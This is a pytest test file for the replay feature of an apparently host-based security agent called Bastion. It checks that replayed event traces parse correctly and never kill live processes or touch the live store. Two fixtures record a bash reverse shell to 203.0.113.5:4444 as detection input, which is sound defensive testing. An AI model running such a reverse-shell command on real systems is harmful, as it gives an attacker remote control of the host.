"""Replay: recorded JSONL -> the same events, errors with file:line."""

from __future__ import annotations

import json
import os
import stat
import time
from pathlib import Path
from typing import Any

import pytest

from bastion.errors import ReplayError
from bastion.events import ExitEvent, FileEvent, Proc, to_json
from bastion.sensors.replay import ReplaySensor, read_all

P = Proc(42, 42, 1, 0, 0, 0, 7, "sh", 0, "/bin/sh")


def _write(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n")
    return path


def test_round_trip_through_a_file(tmp_path: Path) -> None:
    evs = [FileEvent(1_000_000_000_000, P, op="unlink", path="/tmp/x"),
           ExitEvent(2_000_000_000_000, P, exit_code=3, status=768)]
    f = _write(tmp_path / "t.jsonl", ["# a comment", ""] + [json.dumps(to_json(e)) for e in evs])
    assert read_all(f) == evs


def test_batches_then_eof(tmp_path: Path) -> None:
    ev = ExitEvent(1_000, P)
    f = _write(tmp_path / "t.jsonl", [json.dumps(to_json(ev))] * 5)
    s = ReplaySensor(f, batch=2)
    s.open()
    sizes = []
    while (b := s.poll(0)) is not None:
        sizes.append(len(b))
    s.close()
    assert sizes == [2, 2, 1]
    assert s.stats()["events"] == 5


@pytest.mark.parametrize("bad,where,msg", [
    ('{"type": "exit", ', ":2:", "not JSON"),
    ('{"type": "warp", "time": "2026-01-01T00:00:00Z"}', ":2", "unknown event type 'warp'"),
    ('{"type": "exit", "time": "2026-01-01T00:00:00Z", "pid": 1}', ":2", "lacks field"),
])
def test_bad_line_names_file_and_line(tmp_path: Path, bad: str, where: str, msg: str) -> None:
    good = json.dumps(to_json(ExitEvent(1_000, P)))
    f = _write(tmp_path / "t.jsonl", [good, bad])
    with pytest.raises(ReplayError) as ei:
        read_all(f)
    text = str(ei.value)
    assert text.startswith(f"{f}{where}") and msg in text


def test_missing_file(tmp_path: Path) -> None:
    s = ReplaySensor(tmp_path / "nope.jsonl")
    with pytest.raises(ReplayError, match="nope.jsonl: cannot open replay file"):
        s.open()


def _replayed(tmp_path: Path, ev: object) -> Any:
    """The embedded default policy's agent, replaying the one event ``ev`` to its end."""
    import threading

    from support.policies import default_policy

    from bastion.assembly import AgentOptions, build_agent
    from bastion.config import parse_policy

    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(ev))])  # type: ignore[arg-type]
    pol = default_policy(tmp_path / "p.yaml", tmp_path / "shield")
    agent = build_agent(AgentOptions(policy=parse_policy(pol.read_text(), str(pol)),
                                     data_dir=tmp_path / "data", socket_path=None,
                                     replay_path=trace), lambda _m: None)
    agent.run(threading.Event())
    return agent


def test_a_replay_never_acts_on_the_live_host(tmp_path: Path) -> None:
    """s24: ``bastion run --replay`` armed its responses like a live agent: a recorded
    reverse shell whose pid (and start time) a live process holds now -- a recording
    replayed on the host it came from, or pids the recording shares by chance -- had
    that live process SIGKILLed (the replay bench killed host processes this way).  A
    replay only says what would have been done: the decision is made and alerted as
    ``would-kill``, nothing is signalled."""
    import subprocess

    from bastion.events import ExecEvent
    from bastion.procstat import read_stat

    live = subprocess.Popen(["sleep", "60"])
    try:
        st = read_stat(live.pid)
        me = Proc(live.pid, live.pid, os.getpid(), 0, 0, 0, 7, "bash", st.start_ns, "/usr/bin/bash")
        shell = ExecEvent(time.time_ns(), me, filename="/usr/bin/bash", cwd="/tmp",
                          argv=("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"))
        agent = _replayed(tmp_path, shell)
        acts = [r.data for r in agent.store.alerts(limit=50)
                if r.data.get("rule", "").startswith("behavior.")]
        agent.store.close()
        assert acts, "the recorded reverse shell raised nothing"
        assert live.poll() is None, f"the replay killed a live process: {acts}"
        assert {a["action"] for a in acts} <= {"alert"} | {f"would-{x}" for x in
                                                          ("kill", "kill-tree", "quarantine")}
        assert any(a["action"].startswith("would-") for a in acts), acts
    finally:
        live.kill()
        live.wait()


def test_a_replayed_actor_is_not_taken_for_the_live_process_holding_its_pid(
        tmp_path: Path) -> None:
    """s24: a replay's process table read this host's /proc: a recorded actor without
    an exe (a record whose process the table had not seen) was given the exe, cmdline
    and ancestry of whatever live process holds its pid now -- judged, trusted and
    stored as that process.  A replay's table reads no /proc."""
    import subprocess

    live = subprocess.Popen(["sleep", "60"])
    try:
        who = Proc(live.pid, live.pid, 1, 0, 0, 0, 7, "x", 0, "")
        ev = FileEvent(time.time_ns(), who, op="unlink", path="/tmp/bastion-replay-probe")
        agent = _replayed(tmp_path, ev)
        stored = [r.data for r in agent.store.events(limit=50)]
        agent.store.close()
        mine = [e for e in stored if e.get("path") == "/tmp/bastion-replay-probe"]
        assert len(mine) == 1, stored
        assert mine[0].get("exe", "") == "", mine[0]
        assert agent.procs.get(live.pid) is None or agent.procs.get(live.pid).exe == ""
    finally:
        live.kill()
        live.wait()


def _shell_event() -> Any:
    from bastion.events import ExecEvent

    me = Proc(4_194_000, 4_194_000, 1, 0, 0, 0, 7, "bash", 1, "/usr/bin/bash")
    return ExecEvent(time.time_ns(), me, filename="/usr/bin/bash", cwd="/tmp",
                     argv=("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"))


def test_a_replay_never_writes_into_the_live_store(tmp_path: Path) -> None:
    """s25 (review 9 of s24): a replay with the default data dir wrote the recording's
    alerts into the live agent's tamper-evident store, as this host's, beside the live
    writer.  It is refused before anything is opened there."""
    import threading

    from bastion.assembly import AgentOptions, build_agent
    from bastion.config import parse_policy
    from bastion.errors import ConfigError
    from bastion.paths import DEFAULT_DATA_DIR

    existed = DEFAULT_DATA_DIR.exists()
    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(_shell_event()))])
    with pytest.raises(ConfigError, match="a replay keeps its own store") as ei:
        agent = build_agent(AgentOptions(policy=parse_policy("version: 1\n", "p.yaml"),
                                         data_dir=DEFAULT_DATA_DIR, socket_path=None,
                                         replay_path=trace), lambda _m: None)
        agent.run(threading.Event())
    assert str(DEFAULT_DATA_DIR) in str(ei.value)
    assert DEFAULT_DATA_DIR.exists() == existed


def test_a_replay_starts_no_output_fleet_or_metrics(tmp_path: Path) -> None:
    """s25: a replay's alerts went to the policy's outputs (a SIEM, a webhook, the
    fleet) and metrics as this host's own.  A replay reports to its feed and its own
    store only, and says so."""
    import threading

    from bastion.assembly import AgentOptions, build_agent
    from bastion.config import parse_policy

    out = tmp_path / "siem.jsonl"
    pol = parse_policy(f"version: 1\noutputs:\n  - type: jsonl\n    path: {out}\n"
                       "metrics: {listen: '127.0.0.1:1'}\n", "p.yaml")
    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(_shell_event()))])
    said: list[str] = []
    agent = build_agent(AgentOptions(policy=pol, data_dir=tmp_path / "data", socket_path=None,
                                     replay_path=trace), said.append)
    agent.run(threading.Event())
    try:
        stored = [a.data["rule"] for a in agent.store.alerts(limit=50)]
    finally:
        agent.store.close()
    assert any(r.startswith("behavior.") for r in stored), stored
    assert not out.exists(), out.read_text()
    assert agent.outputs is None and agent.metrics is None
    assert any("outputs, fleet link and metrics are not started" in s for s in said), said


def test_the_cli_gives_a_replay_its_own_store_and_socket(tmp_path: Path) -> None:
    """``bastion run --replay F`` with no --data-dir: a new directory of its own, named on
    stderr, holds the store and the control socket (the defaults were the live agent's:
    its store, and its socket, which made a replay fail while the agent ran)."""
    import re
    import subprocess
    import sys

    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(_shell_event()))])
    r = subprocess.run([sys.executable, "-m", "bastion.cli.main", "run", "--replay", str(trace),
                        "--quiet"], capture_output=True, text=True, timeout=120,
                       env={**os.environ, "BASTION_DATA_DIR": "", "BASTION_SOCKET": ""})
    assert r.returncode == 0, r.stderr
    m = re.search(r"replay: its store is (/\S+)", r.stderr)
    assert m, r.stderr
    d = Path(m.group(1))
    try:
        assert d.name.startswith("bastion-replay-") and (d / "bastion.db").exists()
    finally:
        import shutil

        shutil.rmtree(d, ignore_errors=True)


def test_a_replay_in_its_own_store_evaluates_the_live_installed_sigma_set(tmp_path: Path) -> None:
    """s25 review: with its own store, a replay read the installed Sigma set from that
    new directory (none there): its Sigma detections silently differed from the live
    agent's.  The CLI points it at the live agent's installed set (read only)."""
    import sys
    import threading

    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from support.sigma_release import CORPUS

    from bastion.assembly import AgentOptions, build_agent
    from bastion.config import parse_policy
    from bastion.detect.sigma import install as inst

    live = tmp_path / "live"
    inst.update(live, from_path=CORPUS)
    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(_shell_event()))])
    agent = build_agent(AgentOptions(policy=parse_policy("version: 1\n", "p.yaml"),
                                     data_dir=tmp_path / "replay", socket_path=None,
                                     replay_path=trace, sigma_data_dir=live), lambda _m: None)
    try:
        agent.run(threading.Event())
        st = agent.status()
    finally:
        agent.store.close()
    sigma = st["protections"]["sigma"]
    assert sigma["on"] and "SigmaHQ release local" in sigma["detail"], sigma
    assert not (tmp_path / "replay" / "sigma").exists()


def test_a_replay_refuses_a_data_dir_another_agent_holds(tmp_path: Path) -> None:
    """s26 (left by the s25 review): a replay given a live agent's data dir other than
    the default wrote into its store beside the live writer.  The live agent holds the
    data dir's owner lock; a replay aimed there is refused before the store is opened
    (no row, no anchor touched), and runs once the holder is gone."""
    import threading

    from bastion.assembly import AgentOptions, build_agent
    from bastion.config import parse_policy
    from bastion.errors import ConfigError
    from bastion.store.db import DB_NAME, lock_data_dir

    data = tmp_path / "live"
    data.mkdir(mode=0o700)
    held = lock_data_dir(data)          # the live agent's hold (another open file description)
    trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(_shell_event()))])
    opts = AgentOptions(policy=parse_policy("version: 1\n", "p.yaml"), data_dir=data,
                        socket_path=None, replay_path=trace)
    try:
        with pytest.raises(ConfigError, match="another Bastion process holds this data dir") as ei:
            build_agent(opts, lambda _m: None)
        assert f"pid {os.getpid()}" in str(ei.value) and "agent.lock" in str(ei.value)
        assert not (data / DB_NAME).exists()
    finally:
        os.close(held)
    agent = build_agent(opts, lambda _m: None)
    agent.run(threading.Event())
    try:
        assert [a.data["rule"] for a in agent.store.alerts(limit=50)]
        # the replay held the lock while it ran and let it go with its store
        with pytest.raises(Exception, match="another Bastion process"):
            lock_data_dir(data)
    finally:
        agent.store.close()
    os.close(lock_data_dir(data))


def test_the_owner_lock_is_never_a_symlink_a_fifo_a_device_or_a_hard_link(tmp_path: Path) -> None:
    """The lock file is opened as root in a data dir: it is looked at first (O_PATH) and
    taken only as this user's own private regular file with one link.  A symlink
    planted there (to a file of value), a fifo, a device node (never opened: a
    watchdog or a tty would act on an open) and a hard link to another file are
    refused with the file named, and no target is written or truncated (s26 review)."""
    from bastion.errors import StoreError
    from bastion.store.db import OWNER_LOCK, lock_data_dir

    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    victim.chmod(0o600)
    cases = {"symlink": lambda f: f.symlink_to(victim), "fifo": lambda f: os.mkfifo(f),
             "hardlink": lambda f: os.link(victim, f)}
    if os.geteuid() == 0:
        cases["device"] = lambda f: os.mknod(f, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    for name, plant in cases.items():
        d = tmp_path / name
        d.mkdir()
        plant(d / OWNER_LOCK)
        with pytest.raises(StoreError, match="owner lock is not") as ei:
            lock_data_dir(d)
        assert str(d / OWNER_LOCK) in str(ei.value), name
        assert victim.read_text() == "keep\n", name
    d = tmp_path / "shared"
    d.mkdir()
    (d / OWNER_LOCK).write_text("")
    (d / OWNER_LOCK).chmod(0o644)          # readable by others: not private
    with pytest.raises(StoreError, match="private file"):
        lock_data_dir(d)
    fresh = tmp_path / "fresh"                 # the control: made 0600 and taken
    fresh.mkdir()
    os.close(lock_data_dir(fresh))
    assert stat.S_IMODE((fresh / OWNER_LOCK).stat().st_mode) == 0o600
